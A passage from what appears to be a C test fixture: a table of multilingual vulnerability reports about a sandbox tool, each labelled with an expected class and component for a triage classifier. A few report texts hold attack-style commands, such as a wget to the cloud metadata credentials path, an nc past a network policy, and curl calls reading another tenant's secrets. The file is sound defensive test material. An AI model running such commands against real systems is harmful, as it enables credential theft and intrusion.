	  "other local users can read the key.", "secret_leakage", "core" },
	{ "Cloud API keeps revoked keys valid",
	  "A revoked key still authenticates against the cloud API for hours.", "control_plane_auth", "cloud" },
	/* other sandboxes as bystanders are no isolation bypass */
	{ "A guest loses its mounts after msb restart",
	  "After a restart of msb one guest loses its mounts until it is recreated; other sandboxes\n"
	  "keep running.", NULL, "core" },
	/* blind round 28 (#3): what the other sandboxes use, changed by one;
	 * Lithuanian */
	{ "Gateway DNS cache",
	  "The forwarder keeps one cache for all sandboxes on a host and accepts extra records, so a\n"
	  "guest can plant answers that are then used by other sandboxes.", "isolation_bypass", "core" },
	{ "Bendros eil\xc4\x97" "s",
	  "Vieno sandbox'o procesas gali skaityti kito sandbox'o eiles, tai pa\xc5\xbe" "eid\xc5\xbe" "ia izoliacij\xc4\x85 tarp sandbox'\xc5\xb3.",
	  "isolation_bypass", "core" },
	/* blind round 14 (#3): Traditional Chinese, Russian */
	{ "\xe6\xb2\x99\xe7\xae\xb1\xe9\x9a\x94\xe9\x9b\xa2",
	  /* 兩個沙箱之間的隔離可以被繞過。 */
	  "\xe5\x85\xa9\xe5\x80\x8b\xe6\xb2\x99\xe7\xae\xb1\xe4\xb9\x8b\xe9\x96\x93\xe7\x9a\x84"
	  "\xe9\x9a\x94\xe9\x9b\xa2\xe5\x8f\xaf\xe4\xbb\xa5\xe8\xa2\xab\xe7\xb9\x9e\xe9\x81\x8e\xe3\x80\x82",
	  "isolation_bypass", "core" },
	{ "Секреты остаются в /tmp",
	  "Конфигурация записывается со значениями секретов в открытом виде, и любой локальный\n"
	  "пользователь может получить ключи API.", "secret_leakage", "core" },
	/* (the Python examples are the Python SDK's: no pattern names a
	 * component, and the component word model is sure of python_sdk where
	 * the patterns alone gave the default, core) */
	{ "Question about the Python examples",
	  "Running python3 app.py prints a traceback from /usr/lib/python3.12/asyncio/runners.py.",
	  NULL, "python_sdk" },
	/* Ukrainian (blind round 15) */
	{ "Вразливість у microsandbox",
	  "Будь-який користувач може під'єднатися до чужої пісочниці. Тобто ізоляція між\n"
	  "пісочницями різних користувачів не працює.", "isolation_bypass", "core" },
	/* an SSRF that ends in the instance's metadata credentials */
	{ "SSRF in cloud image import -> metadata credentials",
	  "The control plane fetches any URL, so a user reads the temporary cloud credentials of\n"
	  "the importer role from 169.254.169.254.", "secret_leakage", "cloud" },
	/* blind round 20: code execution on the machine around the sandbox;
	 * a key serialised into an error's JSON (an unauthenticated attacker
	 * does not make it an authentication bug); the cloud named by its own
	 * host while the reporter mentions the SDK he uses */
	{ "Guest reaches the WSL interop socket",
	  "Any process in the guest can ask WSL to start cmd.exe. That is code execution on the\n"
	  "Windows machine as the logged-in user, from inside the sandbox: a full escape.",
	  "sandbox_escape", "core" },
	{ "Node SDK: API key serialised into SandboxError JSON",
	  "Applications that return errors as JSON hand the API key to any unauthenticated user.\n"
	  "Impact: disclosure of the microsandbox API key.", "secret_leakage", "node_sdk" },
	/* a secret on a command line read by other local users is a leak, not
	 * a privilege escalation; Turkish puts the verb last (blind round 22) */
	{ "Node SDK passes sandbox env values on the msb command line (visible in ps to other local users)",
	  "Command lines are world-readable through /proc/PID/cmdline, so every other local user on the\n"
	  "host can read what an application passes into its sandboxes.", "secret_leakage", "node_sdk" },
	{ "msb server ortam değişkenlerini loglara yazıyor",
	  "Bu anahtarlar düz metin olarak pod loglarında görünüyor; başka müşterilerin gizli\n"
	  "anahtarlarını okuyabiliyor.", "secret_leakage", "core" },
	{ "Kunci API di log aplikasi",
	  "Saat logging DEBUG aktif, msb membocorkan kunci API ke log aplikasi; siapa pun yang bisa\n"
	  "membaca log bisa memakai kredensial itu.", "secret_leakage", "core" },
	{ "Invite link valid after removal",
	  "A removed admin accepts the old invite again and gets the admin role back: the invite\n"
	  "is not invalidated.\n"
	  "curl -X POST https://cloud.microsandbox.example/api/v1/invites/inv_1/accept\n"
	  "On the client I use the Python SDK 0.8.3.", "control_plane_auth", "cloud" },
	/* round 23: the network policy in Hebrew; the cloud's console named
	 * over the SDK the sandbox was created with */
	{ "עקיפת מדיניות רשת",
	  "הקוד בתוך ה-sandbox מגיע לשירותים של המארח על 127.0.0.1 למרות מדיניות הרשת.\n"
	  "  msb run --deny-net 0.0.0.0/0 --allow-net 10.20.0.0/16 alpine -- nc 10.20.0.1 5432\n",
	  "network_bypass", "core" },
	{ "Cloud console: Viewer role can read secret env values",
	  "The API behind the sandbox page returns the secret env values to members with the\n"
	  "Viewer role, so contractors can take our Stripe key.\n"
	  "Created with the Python SDK: Sandbox.create(image=\"python:3.12\", secrets={...})\n"
	  "pip show microsandbox: Version: 0.8.3", "secret_leakage", "cloud" },
	/* round 27: a paragraph asking whether the cloud may be tested, with
	 * what the writer would like to test, is an aside; the finding after
	 * it decides.  A scope question beside a finding in the same
	 * paragraph, with no plan, still counts. */
	{ "Two questions",
	  "Can we test the hosted control plane yet, or is it not in scope? We would like to look\n"
	  "into its role checks and authorization.\n\n"
	  "Separately: a sandbox can read the files of another sandbox when both use the same\n"
	  "volume name in different projects.", "isolation_bypass", "core" },
	/* round 51: an allow-listed sandbox reaching the metadata service;
	 * the path's words ("security-credentials") and the listing's role
	 * name are no leaked secret */
	{ "msb 0.8.7",
	  "$ msb run --net-allow pypi.example alpine -- wget -qO- "
	  "'http://[::ffff:169.254.169.254]/latest/meta-data/iam/security-credentials/'\n"
	  "build-node-role\n", "network_bypass", "core" },
	{ "Is this in scope?",
	  "Is the managed cloud in scope? Its API returns the sandboxes of other organizations to\n"
	  "any API key: an authorization bypass.", "control_plane_auth", "cloud" },
	/* issue #3: the installer and the release files in other languages;
	 * installing with the installer alone says nothing about it */
	{ "Instalador: binário com dono errado",
	  "O script de instalação descompacta os tarballs da release sem --no-same-owner, então\n"
	  "/usr/local/bin/msb fica com dono uid 1001: quem for o uid 1001 substitui o binário e\n"
	  "ganha root (escalonamento de privilégios local).", "privilege_escalation", "release_infra" },
	{ "インストールスクリプトの問題",
	  "インストールスクリプトがリリースの tarball をチェックサムの検証なしでダウンロードします。\n"
	  "ミラーを乗っ取れば改ざんされた msb がインストールされます (supply chain)。",
	  "supply_chain", "release_infra" },
	{ "El invitado escribe en el host",
	  "Instalé msb con el instalador de la web. Desde el invitado escribo /etc/cron.d/x en el\n"
	  "host a través del volumen compartido: escape del sandbox.", "sandbox_escape", "core" },
	/* issue #3: the class is the boundary the flaw crosses, not the thing
	 * at stake: a CI job that runs what an outsider wrote (a branch name,
	 * an issue's text) is the release pipeline open to them, whatever
	 * token the job holds ... */
	{ "Docs preview job: branch names become shell",
	  "The docs preview job copies the contributor's branch name into a shell step unquoted,\n"
	  "and that step has the publish token in its environment.", "supply_chain", "release_infra" },
	{ "Injection de commandes dans le workflow de release",
	  "Le texte d'une issue ouverte par n'importe qui est collé dans le script du job, qui a le\n"
	  "jeton de publication npm.", "supply_chain", "release_infra" },
	/* ... while a token the job writes into a public log is a leak */
	{ "Release job prints the publish token",
	  "With debug logging on, the release job prints the npm publish token into its public build\n"
	  "log, where anyone browsing the Actions tab can copy it.", "secret_leakage", "release_infra" },
	/* ... unless a dependency the pipeline runs was compromised, or the key
	 * that signs releases is what got out: the pipeline itself is no
	 * longer ours, whatever tokens it printed (1620, 1444) */
	{ "Publish tokens exposed: hijacked upstream action in your CI",
	  "The build workflow runs a third-party action that has been hijacked since Monday; it\n"
	  "prints every secret of the job, including the crates.io token, into the public log.",
	  "supply_chain", "release_infra" },
	{ "Your release workflow leaks its secrets",
	  "The v2 tag of the lint action your release workflow uses was moved to a malicious commit\n"
	  "that writes the environment, with the PyPI token, into the job log.",
	  "supply_chain", "release_infra" },
	{ "Acción comprometida en el workflow de publicación",
	  "El workflow de release usa una acción de terceros comprometida que imprime en el log\n"
	  "público los secretos del job, incluido el token de npm.", "supply_chain", "release_infra" },
	{ "Release signing key printed in the job log",
	  "The sign step echoes the release signing key into the public job log; with it I signed a\n"
	  "tampered tarball and it verifies against your release key.", "supply_chain", "release_infra" },
	/* near misses: an action that is not compromised, a host or account
	 * that was, a signing key named without getting out: still a leak */
	{ "Release job prints the PyPI token",
	  "The third-party action in the release workflow was not compromised, but our own step\n"
	  "runs with debug on and prints the PyPI token into the public build log.",
	  "secret_leakage", "release_infra" },
	{ "Deploy token in public CI log",
	  "After the build host was compromised last year you moved to hosted runners; the deploy\n"
	  "release job now prints the registry password into its public log for anyone to copy.",
	  "secret_leakage", "release_infra" },
	/* issue #3: one sandbox reaching another, in the languages reports
	 * come in and over network words, is isolation ... */
	{ "Sandboxes hablan entre sí por IPv6",
	  "Por IPv6 un sandbox abre los puertos de otro sandbox del mismo host: las reglas del bridge\n"
	  "solo filtran IPv4.", "isolation_bypass", "core" },
	{ "Link-Local über die Bridge",
	  "Über die Bridge erreicht eine Sandbox per Link-Local-Adresse die Dienste einer anderen\n"
	  "Sandbox, obwohl die Firewall-Regeln das verbieten sollen.", "isolation_bypass", "core" },
	/* ... a snapshot restored across sandboxes is the snapshot path, in
	 * those languages as in English */
	{ "Le snapshot restauré garde des blocs entre sandboxes",
	  "Après la restauration d'un snapshot, un sandbox relit des blocs libérés par un autre sandbox\n"
	  "du même hôte.", "snapshot_leak", "core" },
	/* ... a guest reaching the LAN against the policy is not */
	{ "Guest reaches the office LAN with --no-network",
	  "A sandbox started with --no-network still opens TCP connections to printers and file\n"
	  "servers on our office LAN through the IPv6 link-local route.", "network_bypass", "core" },
	/* issue #3: becoming root, in the languages reports come in ... */
	{ "Helper: jeder lokale Benutzer wird root",
	  "Der Helper-Dienst prüft seine Aufrufer nicht: jeder lokale Benutzer ohne Adminrechte wird\n"
	  "root, indem er ihm einen Pfad mit ../ schickt.", "privilege_escalation", "core" },
	{ "Socket du démon",
	  "N'importe quel compte local sans droits d'administration devient root en parlant au socket\n"
	  "du démon msbd, qui est en mode 0666.", "privilege_escalation", "core" },
	{ "Socket do daemon",
	  "Qualquer usuário local sem sudo vira root falando com o socket do msbd, que aceita\n"
	  "qualquer cliente.", "privilege_escalation", "core" },
	{ "Сокет демона",
	  "Любой локальный пользователь без sudo становится root через сокет msbd, который не\n"
	  "проверяет клиента.", "privilege_escalation", "core" },
	{ "ヘルパーの問題",
	  "管理者ではない一般ユーザーが msbd のソケット経由で root になれます。クライアントの検証が\n"
	  "ありません。", "privilege_escalation", "core" },
	{ "Daemon soketi",
	  "Yönetici olmayan herhangi bir yerel kullanıcı msbd soketi üzerinden root olur; istemci\n"
	  "doğrulanmıyor.", "privilege_escalation", "core" },
	/* ... root inside the sandbox is the guest's own */
	{ "Proceso en el sandbox",
	  "Dentro del sandbox un proceso sin privilegios se convierte en root dentro del sandbox\n"
	  "usando su.", NULL, "core" },
	/* (#3) a word that names a part of the system is not the boundary the
	 * flaw crosses: the Authorization header a key travels in, named in
	 * any language or pasted as a header line, is no authorization check
	 * when the key goes to a server it was not meant for ... */
	{ "El cliente manda la clave API a otro servidor",
	  "Con un archivo de configuración en el proyecto, el cliente envía la cabecera Authorization\n"
	  "con nuestra clave API a otro servidor que elige quien escribió ese archivo.\n"
	  "authorization: Bearer msbk_live_0000", "secret_leakage", "core" },
	{ "Token an fremden Server",
	  "Das CLI liest eine Datei im Arbeitsverzeichnis und hat danach unser Token im\n"
	  "Authorization-Header an einen fremden Server geschickt.", "secret_leakage", "core" },
	/* ... in any language: the name in quotes, after the header word, and
	 * the key sent on to a server not meant for it */
	{ "El client reenvia la clau",
	  "Quan hi ha una redirecci\xc3\xb3, el client torna a enviar la cap\xc3\xa7" "alera Authorization\n"
	  "i envia la clau d'API a un altre host que tria el sandbox.", "secret_leakage", "core" },
	{ "Klient po\xc5\xa1le kl\xc3\xad\xc4\x8d",
	  "Po p\xc5\x99" "esm\xc4\x9brov\xc3\xa1n\xc3\xad klient po\xc5\xa1le kl\xc3\xad\xc4\x8d API na jin\xc3\xbd server v hlavi\xc4\x8d" "ce "
	  "\"Authorization\".", "secret_leakage", "core" },
	/* ... while a missing check on the server is still one */
	{ "Control plane ignores the Authorization header",
	  "The control plane accepts requests to /v1/sandboxes without an Authorization header and\n"
	  "lists every organisation's sandboxes: an authorization bypass.", "control_plane_auth", "cloud" },
	/* ... the cloud named as one of the servers the CLI talks to is not
	 * where the flaw is ... */
	{ "msb trusts any TLS certificate",
	  "msb skips certificate checks for its downloads from image registries and the cloud API,\n"
	  "so anyone on the path can feed it a tampered rootfs during msb pull.", NULL, "core" },
	/* ... and a guest emptying a host directory through a host-side
	 * command crosses the guest-host boundary, whatever the directory
	 * holds and however msb was installed (from the install script) */
	{ "Cleanup follows links made by the guest",
	  "A link planted from inside the sandbox makes msb gc on the host wipe a whole folder on the\n"
	  "host; our runner's folder holds the build cache. msb was installed with the install script.",
	  "sandbox_escape", "core" },
	/* ... two sandboxes told apart by order, and sandboxes of one image, in
	 * other languages */
	{ "Dos sandboxes comparten /var/tmp",
	  "La segunda sandbox lee los ficheros que dejó la primera en /var/tmp mientras las dos\n"
	  "están en marcha; pasa con sandboxes de la misma imagen.", "isolation_bypass", "core" },
	{ "Twee sandboxes",
	  "De tweede sandbox ziet de bestanden van de eerste in /var/tmp, maar alleen met hetzelfde\n"
	  "image.", "isolation_bypass", "core" },
	/* ... an egress rule named in the subject does not outweigh one
	 * sandbox reaching another: no traffic leaves for the outside */
	{ "Egress rules do not keep sandboxes apart",
	  "With deny rules on both, sandbox A still opens connections to the web server of sandbox B\n"
	  "over the host bridge.", "isolation_bypass", "core" },
	/* ... not a second run of one sandbox ("der zweite Start") */
	{ "Zweiter Start",
	  "Beim zweiten Start derselben Sandbox ist die Datei aus dem ersten Lauf noch da; das ist\n"
	  "unsere eigene Sandbox und kein Problem.", NULL, "core" },
	/* (#3) class and component told only in the writer's language: a
	 * package manager told to trust whatever it is served, the signature
	 * never checked, is supply_chain in the project's package repository */
	{ "yum 仓库配置的问题",
	  "文档让用户添加的 .repo 文件里写着 gpgcheck=0，dnf 安装时完全不验证签名，\n"
	  "路径上的任何人都可以换掉 msb 的 rpm 包。", "supply_chain", "release_infra" },
	{ "Установка по инструкции",
	  "В инструкции для Debian предлагают apt репозиторий по http, и apt ставит пакеты без\n"
	  "проверки подписи: любой на пути подменит пакет, а его postinst выполнится от root.",
	  "supply_chain", "release_infra" },
	/* ... another customer's files or sandbox in Arabic, Persian, Hindi,
	 * Turkish */
	{ "مشكلة في العزل",
	  "عند تشغيل اثنين من sandbox بنفس الاسم يستطيع عميل واحد قراءة ملفات عميل آخر وتعديلها.",
	  "isolation_bypass", "core" },
	{ "Aynı dizin",
	  "İki sandbox aynı durum dizinini paylaşıyor; bir kullanıcı başka bir müşterinin dosyalarını\n"
	  "okuyup değiştirebiliyor.", "isolation_bypass", "core" },
	{ "साझा फ़ोल्डर",
	  "एक sandbox से दूसरे ग्राहक की फ़ाइलें पढ़ी और बदली जा सकती हैं।", "isolation_bypass", "core" },
	/* ... in Greek and the Scandinavian languages: another user's
	 * sandbox, the others' sandboxes, isolation between users (1361,
	 * 1368); the other sandboxes that keep running beside a crash, and
	 * network isolation, are none of it */
	{ "Κοινός κατάλογος cache",
	  "Ο κατάλογος cache του msb είναι κοινός, οπότε ένας φοιτητής μπορεί να αλλάξει τα αρχεία\n"
	  "στα sandboxes των άλλων φοιτητών και να διαβάσει τα δεδομένα τους.", "isolation_bypass", "core" },
	{ "Πρόβλημα με το msb-netd",
	  "Βρήκα ένα πρόβλημα απομόνωσης: από το δικό μου sandbox συνδέομαι στη βάση δεδομένων\n"
	  "ενός άλλου sandbox στον ίδιο host.", "isolation_bypass", "core" },
	{ "Κατάρρευση του msbd",
	  "Όταν ένα sandbox γεμίσει τη μνήμη, το msbd κολλάει για λίγα δευτερόλεπτα και τα άλλα\n"
	  "sandboxes συνεχίζουν κανονικά μετά.", NULL, "core" },
	{ "Delt mappe mellom kundar",
	  "Cache-mappa er delt, så ein kunde kan endre filene i sandkassa til ein annan kunde og\n"
	  "lese databasen i den andre sandkassa.", "isolation_bypass", "core" },
	{ "Isolering",
	  "Vi ser att isoleringen mellan användarna inte håller: en användare kan läsa filer i andra\n"
	  "användares sandlådor på samma server.", "isolation_bypass", "core" },
	{ "msbd hengjer",
	  "Når ei sandkasse fyller disken, heng msbd i nokre sekund, og dei andre sandkassane køyrer\n"
	  "vidare etterpå.", NULL, "core" },
	/* ... a registry's artifact that is not what the release holds is the
	 * build that published it, though the SDK carrying it is named */
	{ "Node SDK tarball on npm",
	  "The microsandbox tarball on npm for the Node SDK does not match the tagged source: its\n"
	  "dist/ holds a script that is not in the repository at that commit.", "supply_chain", "release_infra" },
	{ "Python SDK publish job",
	  "I think the job that publishes to PyPI for the Python SDK was compromised: the sdist\n"
	  "differs from the release assets on GitHub.", "supply_chain", "release_infra" },
	/* ... not an SDK bug whose reporter says how he installed it */
	{ "Python SDK leaks the env",
	  "After pip install microsandbox, the Python SDK passes every secret of Sandbox.create() on\n"
	  "the msb command line, where any local user reads it with ps.", "secret_leakage", "python_sdk" },
	/* ... nor a package of the guest image with its own apt source */
	{ "apt inside the sandbox",
	  "Inside the sandbox, apt install from the image's own sources.list hangs forever when the\n"
	  "network is set to none.", NULL, "core" },
	/* (fixclass9) an object of another organisation reached because the
	 * API never checks its owner is the control plane's authorization,
	 * whatever tenant data it reaches, in English and Japanese; without
	 * the owner check, tenants sharing one thing stay isolation */
	{ "Cloud API mounts volumes of other orgs",
	  "In the managed cloud, POST /v1/sandboxes attaches any volume id without an ownership check:\n"
	  "with our key we mounted a volume of another organisation and read the other tenant's files.",
	  "control_plane_auth", "cloud" },
	{ "クラウド API の権限チェック漏れ",
	  "https://api.cloud.example/v1/sandboxes で、別の組織のディスク ID を指定すると所有者の確認なしに\n"
	  "接続されます。他テナントのデータを読み書きできます。", "control_plane_auth", "cloud" },
	/* (#3) ... the organisation, tenant or account the object belongs to
	 * never checked is the same missing owner check, whatever secret the
	 * other organisation's data shows ("no org check", "does not check that
	 * the sandbox belongs to the key's organisation"), in English; a French
	 * report says it through the other organisation */
	{ "Run output of any sandbox readable",
	  "The run output call of the cloud API has no org check.\n\n"
	  "  msb cloud run --name v python -- python -c \"print('SECRET-TOKEN-42')\"\n"
	  "  curl -s https://api.example/v1/sandboxes/sbx_1/output\n  {\"text\":\"SECRET-TOKEN-42\"}",
	  "control_plane_auth", "cloud" },
	{ "Files of any sandbox by id",
	  "The files route does not check that the sandbox belongs to the key's organisation, so the\n"
	  "secret another customer wrote to /run/secrets/db_password is printed to me:\n\n"
	  "  curl -s https://api.example/v1/sandboxes/sbx_9/files/run/secrets/db_password\n  hunter2-prod",
	  "control_plane_auth", "cloud" },
	{ "API cloud",
	  "Le point d'acc\u00e8s des journaux ne v\u00e9rifie pas que le sandbox appartient \u00e0 l'organisation\n"
	  "de la cl\u00e9. Avec ma cl\u00e9, un attaquant lit les journaux d'autres clients et leur OPENAI_API_KEY.",
	  "control_plane_auth", "cloud" },
	/* ... not a file's owner in the guest, nor an organisation's own
	 * token printed where its members read it */
	{ "copy-out follows guest files",
	  "msb cp does not check that the file belongs to the guest user before copying it to the host,\n"
	  "so a symlink in the sandbox makes it read /etc/shadow on the host.", "sandbox_escape", "core" },
	{ "org token in logs",
	  "The cloud dashboard prints our organization's API token in plain text in the sandbox logs,\n"
	  "where every member with viewer access can read it.", "secret_leakage", "cloud" },
	{ "Tenants share one cache",
	  "Every tenant's sandbox on a host mounts the same download cache, so a file one tenant\n"
	  "writes there is read by the sandboxes of other tenants.", "isolation_bypass", "core" },
	/* ... the host user's ssh agent handed into the guest is a
	 * credential leaving it (English, Spanish); a guest that replaces the
	 * agent's socket path on the host is out of the sandbox */
	{ "Host SSH agent available in every guest",
	  "msb forwards the host's ssh-agent socket into every sandbox even without --forward-ssh-agent,\n"
	  "so untrusted code can sign in to our git server with my keys.", "secret_leakage", "core" },
	{ "El agente SSH del host",
	  "msb pasa el socket de ssh-agent del host dentro del sandbox sin que nadie lo pida; cualquier\n"
	  "programa puede usar mis claves para entrar en nuestros servidores.", "secret_leakage", "core" },
	{ "Guest replaces host paths",
	  "A guest can make msb on the host unlink any host file and bind a socket there, for example\n"
	  "at $SSH_AUTH_SOCK, so host programs talk to the guest: it writes files on the host outside\n"
	  "the share.", "sandbox_escape", "core" },
	/* ... an allow list that is not applied leaves the sandbox the whole
	 * internet (English, French) */
	{ "Python SDK egress rules silently ignored",
	  "Sandbox.create(network=...) from the Python SDK: the egress rules are silently ignored and\n"
	  "the sandbox has full internet access.", "network_bypass", "python_sdk" },
	{ "Liste blanche réseau",
	  "Avec --allow-host, la liste blanche n'est pas appliquée quand le bac à sable redémarre : il\n"
	  "peut joindre n'importe quel site.", "network_bypass", "core" },
	/* ... code in the guest that gets root on the host is out of the
	 * sandbox, a setuid bit on the way notwithstanding; a host user who
	 * runs a setuid file to become root stays an escalation */
	{ "msb export keeps setuid bits",
	  "msb export copies files out of the guest with their owner and setuid bit, so code running\n"
	  "in the sandbox gets root on the host once an admin runs the exported tool.",
	  "sandbox_escape", "core" },
	{ "Setuid helper on the host",
	  "The msb-net helper is installed setuid root and trusts PATH, so any local user on the host\n"
	  "can gain root: unprivileged host user to root.", "privilege_escalation", "core" },
	/* ... a guest that starts programs on the host, in English, French
	 * and German */
	{ "Clipboard bridge",
	  "The clipboard bridge lets a process in the guest launch programs on the macOS host with\n"
	  "any arguments.", "sandbox_escape", "core" },
	{ "Pont presse-papiers",
	  "Le pont du presse-papiers permet au code de l'invité de lancer des programmes sur l'hôte.",
	  "sandbox_escape", "core" },
	{ "Zwischenablage",
	  "Über die Zwischenablage kann ein Prozess in der Sandbox beliebige Programme auf dem Host\n"
	  "starten.", "sandbox_escape", "core" },
	/* ... a snapshot named in French and Spanish that carries another
	 * sandbox's data, and sessions restored from one saved snapshot that
	 * see each other's files; "instantanée" as an adjective is no
	 * snapshot */
	{ "Fuite par les instantanés",
	  "Un instantané contient les fichiers supprimés d'un autre bac à sable : les blocs libres ne\n"
	  "sont pas remis à zéro.", "snapshot_leak", "core" },
	{ "Instantáneas con datos ajenos",
	  "La instantánea incluye archivos borrados de otro sandbox, que se leen al restaurarla.",
	  "snapshot_leak", "core" },
	{ "users see each other's files",
	  "Each user session is restored from the same saved snapshot, and users can read each other's\n"
	  "files from earlier sessions.", "snapshot_leak", "core" },
	/* (2146) the same in Indonesian and Malay: a snapshot that "berisi"
	 * or "memuat" another sandbox's data, a "kebocoran" through it; the
	 * shared cache holding it names no snapshot */
	{ "Checkpoint memuat sisa data",
	  "Checkpoint yang saya buat memuat potongan berkas milik pengguna lain yang sudah dihapus,\n"
	  "halaman memorinya tidak dikosongkan.", "snapshot_leak", "core" },
	{ "Kebocoran rahsia pelanggan lain lewat snapshot",
	  "Selepas dipulihkan, sandbox kami boleh membaca fail .env pelanggan lain.",
	  "snapshot_leak", "core" },
	{ "Cache bersama antar sandbox",
	  "Cache gambar yang dipakai bersama berisi berkas dari sandbox lain, dan sandbox saya bisa\n"
	  "membacanya: isolation between sandboxes tidak ada.", "isolation_bypass", "core" },
	{ "Bacs à sable voisins",
	  "La lecture est instantanée : un bac à sable lit les fichiers d'un autre bac à sable par le\n"
	  "cache partagé.", "isolation_bypass", "core" },
	/* (1343) a leak of credentials named in French or Spanish with the
	 * borrowed English word, or of keys and tokens; a memory leak, or a
	 * leak of files, is not a secret named */
	{ "Fuite de credentials GCP via le SDK Python",
	  "Le dossier envoyé dans le bac à sable emporte le fichier de configuration du poste de\n"
	  "développement.", "secret_leakage", "python_sdk" },
	{ "Fuga de tokens en el sandbox",
	  "La subida del directorio copia al sandbox el fichero de configuración del portátil.",
	  "secret_leakage", "core" },
	{ "Fuite de mémoire dans msbd",
	  "Chaque démarrage de bac à sable laisse 40 Mo de mémoire que le démon ne libère jamais.",
	  NULL, "core" },
	/* (#3) the tool sends the host side's secrets, or all its variables,
	 * into the sandbox, in Portuguese, Spanish and German; not a tool that
	 * sends none, nor the writer's own choice to pass a token in */
	{ "Extensão do Jupyter",
	  "A extensão do cliente envia os segredos da sessão para dentro do sandbox, onde o código "
	  "gerado pelo agente consegue lê-los.", "secret_leakage", "core" },
	{ "Variables del proceso",
	  "El cliente serializa todas las variables del proceso en el sandbox aunque no se lo pidamos, y "
	  "el script que corre ahí las imprime.", "secret_leakage", "core" },
	{ "Geheimnisse in der Sandbox",
	  "Das Plugin kopiert alle Variablen des Notebooks in die Sandbox, auch die mit Passwörtern.",
	  "secret_leakage", "core" },
	{ "Cache cheio",
	  "O cliente não envia os segredos para o sandbox; o problema é que o cache de imagens fica "
	  "cheio e o disco acaba.", NULL, "core" },
	/* (#3) the sandbox of another, the owner unnamed, reached through a
	 * network service: isolation, not egress; "d'un autre côté" is no
	 * owner, nor is another organisation reached through the cloud API */
	{ "Service de noms",
	  "Depuis mon invité, le résolveur interne répond aussi pour le bac à sable d'un autre élève "
	  "via 10.0.2.3 et donne ses jetons.", "isolation_bypass", "core" },
	{ "Proxy HTTP interno",
	  "Con curl al proxy en 192.168.127.1 leo las variables del sandbox de otro usuario del "
	  "servidor.", "isolation_bypass", "core" },
	{ "Réseau ouvert",
	  "Avec --net none le bac à sable d'un autre côté joint quand même internet : curl "
	  "https://example.org répond depuis l'invité.", "network_bypass", "core" },
	{ "API de la nube",
	  "Con la API key de nuestra cuenta, la API de la nube me deja listar los sandboxes de otra "
	  "organización y borrarlos: también los sandboxes de otros clientes, sólo cambiando el org_id.",
	  "control_plane_auth", "cloud" },
	{ "La API deja que una org borre los sandboxes de otra",
	  "Con la API key de nuestra cuenta puedo borrar por la API los sandboxes de otra organización "
	  "con solo cambiar el org_id del pedido.", "control_plane_auth", "cloud" },
	/* (#3) the owner's own snapshots unencrypted on the owner's own disk,
	 * or read off a stolen machine, leak across no sandbox: the class is
	 * what the other words give (a plain-text key is secret_leakage) ... */
	{ "Laptop theft: what msb leaves on the disk",
	  "Someone took my laptop from a train. msb stores the cloud API key in plain text in its config\n"
	  "file, and our saved snapshots, which contain database dumps, lie unencrypted in my home folder.",
	  "secret_leakage", "core" },
	{ "Stolen notebook: snapshots can be read",
	  "After my stolen notebook was found again, I checked: the msb key is in plain text and the\n"
	  "snapshots were readable from a live USB without any password.", "secret_leakage", "core" },
	{ "Question about where msb keeps things",
	  "My snapshots contain database dumps and they sit unencrypted in my home directory, so anyone\n"
	  "holding the laptop gets them.", NULL, "core" },
	{ "Frage zur Ablage auf der Festplatte",
	  "Meine Snapshots enthalten Datenbank-Dumps und liegen unverschl\xc3\xbcsselt auf der Festplatte.",
	  NULL, "core" },
	/* (1501) ... told in other languages, where the sentence naming the
	 * theft or the live system names no snapshot; a theft beside another
	 * customer's snapshot is still the customer's leak */
	{ "Gestohlenes Notebook: Snapshots lesbar",
	  "Jeder Snapshot enth\xc3\xa4lt den Arbeitsspeicher mit allen Secrets aus --secret und wird\n"
	  "unverschl\xc3\xbcsselt im Profil unter C:\\Users\\pk\\AppData\\Local\\msb\\snaps\\ abgelegt. Der\n"
	  "Finder eines verlorenen Ger\xc3\xa4ts liest sie mit einem Live-USB-Stick aus.",
	  "secret_leakage", "core" },
	{ "Portable vol\xc3\xa9 : snapshots lisibles",
	  "Les snapshots de msb contiennent la m\xc3\xa9moire avec les secrets et sont stock\xc3\xa9s en clair\n"
	  "dans ~/.msb/snaps. On les a lus depuis une cl\xc3\xa9 USB live.", "secret_leakage", "core" },
	{ "Snapshot restore hands over another customer's memory",
	  "On our shared build host, a snapshot restore gives my sandbox the memory of another customer's\n"
	  "sandbox with their tokens; I checked it from a live USB of another customer's machine too.",
	  "snapshot_leak", "core" },
	/* ... while a snapshot that reaches another tenant or sandbox keeps
	 * the class, unencrypted or not */
	{ "Snapshots of other tenants are unencrypted and shared",
	  "My snapshots directory also holds other tenants' snapshots, unencrypted, and a restore into\n"
	  "my sandbox shows their files.", "snapshot_leak", "core" },
	{ "Restored snapshot shows a neighbour's files",
	  "Restoring one of my snapshots into a fresh sandbox shows files another sandbox wrote on the same\n"
	  "host.", "snapshot_leak", "core" },
	/* ... secrets that lie unencrypted on the disk, in Greek and German */
	{ "Τα secrets στον δίσκο",
	  "Το msb αποθηκεύει τα tokens του --secret χωρίς κρυπτογράφηση στον δίσκο, όπου τα διαβάζει\n"
	  "όποιος έχει τον δίσκο.", "secret_leakage", "core" },
	{ "Tokens unverschlüsselt",
	  "msb legt die Tokens aus --secret unverschlüsselt auf der Festplatte ab, in\n"
	  "~/.msb/state.json.", "secret_leakage", "core" },
	/* (1509) a file read anywhere on the machine named by the credentials
	 * it reaches: secret_leakage as claimed; a guest that reads the host's
	 * files stays an escape, and a file read without a secret is no leak */
	{ "Known advisory in a dependency of the Node SDK",
	  "npm audit lists GHSA-7f3x-2c9q-h4mv for a web framework pulled in by the Node SDK (path\n"
	  "traversal, arbitrary file read). Per the advisory a remote attacker can read any file on the\n"
	  "machine that runs it, for example stored credentials.", "secret_leakage", "node_sdk" },
	{ "Guest reads host files",
	  "From inside the guest a crafted virtio-fs request lets code in the sandbox read arbitrary files\n"
	  "on the host, for example ~/.ssh keys, through ../ in the path.", "sandbox_escape", "core" },
	/* issue #3: a credential carried in a URL, or landed in a log, has
	 * left its boundary, whatever the writer then says it allows; an
	 * authorization bug that only names a URL, and a key used beside
	 * it, stays control_plane_auth */
	{ "Node SDK puts the session token in the URL",
	  "The Node SDK passes the session token as a query string parameter when it polls the runs\n"
	  "endpoint, so the load balancer keeps every token. Anyone who reads those logs can delete\n"
	  "the account's sandboxes.", "secret_leakage", "node_sdk" },
	{ "Download links",
	  "Every download link msb prints for an artifact has the bearer token in the URL, and\n"
	  "the token ends up in our CDN provider's request logs, where the whole vendor staff can\n"
	  "read it and use the control plane as us.", "secret_leakage", "cloud" },
	{ "Org id in the URL",
